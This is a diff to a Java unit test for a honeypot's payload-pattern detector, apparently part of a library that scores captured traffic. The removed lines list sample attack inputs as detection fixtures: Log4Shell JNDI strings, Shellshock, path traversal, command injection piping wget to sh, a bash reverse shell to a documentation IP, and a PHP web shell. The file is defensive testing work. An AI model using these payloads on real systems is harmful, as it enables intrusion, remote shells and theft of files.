@@ -2,69 +2,133 @@
 package io.honeymesh.detection;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import io.honeymesh.api.Captured;
 import io.honeymesh.api.Contribution;
+import io.honeymesh.api.Conversation;
 import io.honeymesh.api.Evidence;
+import io.honeymesh.api.Touch;
+import io.honeymesh.api.spi.ScoringRule;
 import java.nio.charset.StandardCharsets;
+import java.util.HashSet;
 import java.util.List;
+import java.util.Set;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class PayloadPatternTest {
 
+    static List<ExploitSamples.Sample> samples() {
+        return ExploitSamples.all();
+    }
+
     @ParameterizedTest
-    @CsvSource(
-            delimiter = '~',
-            value = {
-                "GET / HTTP/1.1\\nX: ${jndi:ldap://192.0.2.1/a}~JNDI look-up (Log4Shell)",
-                "${${lower:j}ndi:rmi://x}~JNDI look-up (Log4Shell)",
-                "User-Agent: () { :;}; /bin/bash -c id~Shellshock",
-                "GET /../../etc/hosts HTTP/1.0~path traversal",
-                "GET /%2e%2e/%2e%2e/windows/win.ini~path traversal",
-                "GET /?f=/etc/passwd~password file",
-                "GET /ping?host=1.1.1.1;wget+x|sh ;wget x~command injection",
-                "wget -q -O- http://192.0.2.1/x.sh~downloader",
-                "/bin/busybox MIRAI~busybox probe",
-                "bash -i >& /dev/tcp/192.0.2.1/4444~reverse shell",
-                "<?php system($_GET[1]);~web shell",
-                "id=1' or 1=1 --~SQL injection",
-                "<!ENTITY x SYSTEM \"file:///etc/hosts\">~XML external entity"
-            })
-    void recognisesExploits(String payload, String what) {
-        assertTrue(found(payload).stream().anyMatch(e -> e.startsWith(what)), found(payload)::toString);
+    @MethodSource("samples")
+    void eachExploitIsFoundAndItsNearMissesAreNot(ExploitSamples.Sample sample) {
+        Exploit exploit = ExploitList.ALL.stream()
+                .filter(e -> e.name().equals(sample.block()))
+                .findFirst()
+                .orElseThrow();
+        boolean found = Stream.of(sample.text(), PercentCode.decoded(sample.text()))
+                .anyMatch(text -> exploit.find(Exploit.Text.of(text)).isPresent());
+        assertEquals(sample.hit(), found, Captured.of(sample.text())::toString);
+    }
+
+    @Test
+    void eachExploitHasSamplesOfBothKindsAndANameOfItsOwn() {
+        List<ExploitSamples.Sample> samples = samples();
+        Set<String> names = new HashSet<>();
+        for (Exploit exploit : ExploitList.ALL) {
+            assertTrue(names.add(exploit.name()), exploit.name());
+            for (boolean hit : new boolean[] {true, false}) {
+                assertTrue(
+                        samples.stream().anyMatch(s -> s.block().equals(exploit.name()) && s.hit() == hit),
+                        exploit.name() + " lacks a sample that is " + (hit ? "found" : "not found"));
+            }
+        }
+        assertTrue(names.size() >= 40, names::toString);
     }
 
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
-                "USER anonymous\r\nPASS guest@example.org\r\nSYST\r\nPASV\r\nLIST\r\nQUIT\r\n",
-                "GET /search?q=cats+and+dogs;page=2&sort=asc HTTP/1.1\r\nCookie: a=b; c=d\r\n\r\n",
+                "exploits.txt:2: no such key: wat~[a]\nwat x",
+                "exploits.txt:2: intent is yes or no~[a]\nintent maybe",
+                "lacks what, needs or match~[a]\nwhat x\nneeds y",
+            })
+    void aListThatIsWrittenWrongSaysWhere(String expectedAndText) {
+        String[] parts = expectedAndText.split("~");
+        IllegalArgumentException wrong = assertThrows(IllegalArgumentException.class, () -> ExploitList.read(parts[1]));
+        assertTrue(wrong.getMessage().contains(parts[0]), wrong.getMessage());
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {"%41%zz%4~A%zz%4", "a+b~a b", "%2541~A", "%252541~%41", "%~%", "plain~plain"})
+    void percentSignsAreDecodedTwice(String text, String decoded) {
+        assertEquals(decoded, PercentCode.decoded(text));
+    }
+
+    static List<ExploitSamples.Ordinary> ordinary() {
+        return ExploitSamples.ordinary();
+    }
+
+    @ParameterizedTest
+    @MethodSource("ordinary")
+    void whatOrdinaryClientsSayIsNoExploitNorPackedNorForeign(ExploitSamples.Ordinary client) {
+        Conversation conversation = conversation(client.trap(), client.said());
+        for (ScoringRule rule : List.of(new PayloadPattern(), new PayloadEntropy(), new ProtocolViolation())) {
+            assertEquals(List.of(), rule.judge(conversation, Samples.NO_HISTORY), client.client());
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101"
+                        + " Firefox/128.0\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5"
+                        + "\r\nCookie: id=5; sh=1; theme=dark\r\n\r\n",
+                "GET /search?q=cats+and+dogs;page=2&sort=asc&from='98 HTTP/1.1\r\nCookie: a=b; c=d\r\n\r\n",
+                "POST /notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"text\":\"it's 5 or 6; cat & dog | id\"}",
+                "SELECT name FROM users WHERE id = 5 OR id = 6;",
+                "DATA\r\nSubject: a script\r\n\r\nRun ./configure && make; then sh install.sh. {{name}} ${HOME}\r\n.\r\n",
+                "cd /var/log\nls -la\ntail -f syslog | grep error\nexit\n",
                 ""
             })
-    void staysSilentOnOrdinaryClients(String payload) {
-        assertEquals(List.of(), found(payload));
+    void staysSilentOnWhatPeopleSay(String payload) {
+        assertEquals(List.of(), found(conversation("http", payload)));
     }
 
     @Test
-    void readsBinaryPayloadsAndEvidence() {
-        assertEquals(
-                1,
-                judge("\u0090".repeat(16).getBytes(StandardCharsets.ISO_8859_1)).size());
-        assertEquals(
-                0,
-                judge("\u0090".repeat(15).getBytes(StandardCharsets.ISO_8859_1)).size());
-        List<Contribution> fromCommand = new PayloadPattern()
-                .judge(
-                        Samples.conversation(
-                                new byte[0], new Evidence.Command(Captured.of("curl http://192.0.2.1/\u001b[2J"))),
-                        Samples.NO_HISTORY);
-        assertEquals(1, fromCommand.size());
-        assertTrue(fromCommand.getFirst().explanation().chars().allMatch(c -> c >= 0x20 && c < 0x7f));
+    void whatIsEverydayBusinessInATrapIsNoExploitThere() {
+        String query = "SELECT a FROM t WHERE b='x' OR 1=1";
+        assertEquals(List.of(), found(conversation("mysql", query)));
+        assertEquals(1, found(conversation("http", query)).size());
+    }
+
+    @Test
+    void readsEvidenceToo() {
+        byte[] nothing = new byte[0];
+        String said = "curl http://192.0.2.1/\u001b[2J";
+        for (Evidence evidence : List.of(
+                new Evidence.Command(Captured.of(said)),
+                new Evidence.Request(Captured.of(said)),
+                new Evidence.Credential("password", Captured.of(said), Captured.of("x")),
+                new Evidence.Credential("password", Captured.of("x"), Captured.of(said)),
+                new Evidence.Detail("x", Captured.of(said)),
+                new Evidence.Violation("x", Captured.of(said)),
+                new Evidence.Upload(Captured.of("a"), 1, "", Captured.of(said)))) {
+            List<String> found = found(Samples.conversation(nothing, evidence));
+            assertEquals(1, found.size(), evidence::toString);
+            assertTrue(found.getFirst().chars().allMatch(c -> c >= 0x20 && c < 0x7f));
+        }
     }
 
     @Test
@@ -76,20 +140,25 @@ class PayloadPatternTest {
     }
 
     private static long operations(String payload) {
-        byte[] bytes = payload.getBytes(StandardCharsets.ISO_8859_1);
-        judge(bytes);
+        Conversation conversation = conversation("http", payload);
+        found(conversation);
         long start = System.nanoTime();
-        judge(bytes);
+        found(conversation);
         return System.nanoTime() - start;
     }
 
-    private static List<Contribution> judge(byte[] payload) {
-        return new PayloadPattern().judge(Samples.conversation(payload), Samples.NO_HISTORY);
+    private static Conversation conversation(String trap, String payload) {
+        Touch touch = Samples.touch(1, "192.0.2.1", 80);
+        return Samples.conversation(
+                new Touch(1, Samples.NOW, trap, touch.flow(), touch.grade()),
+                payload.getBytes(StandardCharsets.ISO_8859_1),
+                false);
     }
 
-    private static List<String> found(String payload) {
-        return judge(payload.getBytes(StandardCharsets.ISO_8859_1)).stream()
-                .map(Contribution::explanation)
-                .toList();
+    private static List<String> found(Conversation conversation) {
+        return new PayloadPattern()
+                .judge(conversation, Samples.NO_HISTORY).stream()
+                        .map(Contribution::explanation)
+                        .toList();
     }
 }
